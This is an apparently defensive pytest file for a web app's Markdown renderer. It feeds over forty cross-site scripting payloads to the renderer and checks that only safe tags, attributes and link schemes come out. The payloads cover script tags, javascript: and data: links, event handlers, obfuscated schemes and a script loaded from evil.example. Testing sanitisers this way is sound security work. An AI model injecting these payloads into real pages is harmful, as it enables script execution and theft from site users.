"""The one text pipeline: Markdown in, safe HTML out, whatever a hostile author writes."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from peerlearn.core.text import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    MentionTarget,
    mention_keys,
    render_markdown,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](java\u200bscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "![img](javascript:alert(1))",
    "![img](https://evil.example/track.png)",
    '[x](https://example.org "title" onmouseover=alert(1))',
    "<a href=https://example.org onclick=alert(1)>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:red}</style>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<p>unterminated <b onmouseover=alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<a href='https://ok.example'>ok</a><a href=\"jav&#x09;ascript:alert(1)\">bad</a>",
    "[a](<javascript:alert(1)>)",
    '<https://example.org/"onmouseover="alert(1)>',
    "www.example.org/<script>alert(1)</script>",
    "@<img src=x onerror=alert(1)>",
    "#tag<svg/onload=alert(1)>",
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    '<a href="mailto:someone@example.org?body=<script>">mail</a>',
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_safe(html: str) -> None:
    """Only allowed tags and attributes; links only to http, https or mailto."""
    parser = _Collector()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) or (tag, name) in {
                ("a", "rel"),
                ("a", "class"),
            }, (
                tag,
                name,
                html,
            )
            if name == "href":
                # Relative links (no scheme) stay on this site; absolute ones only to safe schemes.
                assert urlsplit(value or "").scheme in {"", "http", "https", "mailto"}, html
            for needle in ("javascript:", "vbscript:", "data:"):
                assert needle not in (value or "").lower().replace("\t", ""), (needle, html)
    # Hostile markup may appear, escaped, as text to read; never as markup.
    lowered = html.lower()
    for needle in ("<script", "<style", "<svg", "<img", "<iframe", "<object", "<embed", "<math"):
        assert needle not in lowered, (needle, html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_renders_to_safe_html(payload):
    assert_safe(render_markdown(payload))


def test_there_are_at_least_forty_payloads():
    assert len(PAYLOADS) >= 40


def test_markdown_formatting_survives():
    html = render_markdown("# Aim\n\n**Reduce** _waits_ by 20%.\n\n- one\n- two\n\n> quoted")
    assert "<h1>Aim</h1>" in html
    assert "<strong>Reduce</strong>" in html and "<em>waits</em>" in html
    assert "<li>one</li>" in html and "<blockquote>" in html


def test_links_get_rel_and_bare_urls_are_linked():
    html = render_markdown(
        "See https://www.england.nhs.uk/nhsimpact/ and [AQuA](https://aqua.nhs.uk)"
    )
    assert '<a href="https://www.england.nhs.uk/nhsimpact/" rel="nofollow ugc noopener">' in html
    assert '<a href="https://aqua.nhs.uk" rel="nofollow ugc noopener">AQuA</a>' in html


def test_raw_html_is_shown_as_text_not_markup():
    html = render_markdown("Use <b>bold</b> tags")
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_empty_text_renders_empty():
    assert render_markdown("") == ""


def test_a_mention_inside_a_links_text_is_part_of_the_link():
    """``[ask @bob](url)`` is one link, as written: a mention link inside it would split it."""
    bob = {"bob": MentionTarget("bob", "Bob Smith")}
    assert mention_keys("[ask @bob](https://example.org)") == set()
    html = render_markdown("[ask @bob](https://example.org)", bob)
    assert html.count("<a ") == 1
    assert ">ask @bob</a>" in html


def test_a_handle_is_mentioned_in_any_case_and_shows_the_person_s_name():
    owen = {"owen-davies": MentionTarget("owen-davies", "Owen Davies")}
    assert mention_keys("Thanks @Owen-Davies and @OWEN-DAVIES.") == {"owen-davies"}
    html = render_markdown("Thanks @Owen-Davies!", owen)
    assert (
        'href="/people/owen-davies" class="pl-mention" rel="nofollow ugc noopener">@Owen Davies</a>!'
        in html
    )


def test_mentions_inside_quotes_are_linked_but_not_the_writers_own():
    source = "> @amy said so\n\n@bob what do you think?"
    assert mention_keys(source) == {"amy", "bob"}
    assert mention_keys(source, quoted=False) == {"bob"}
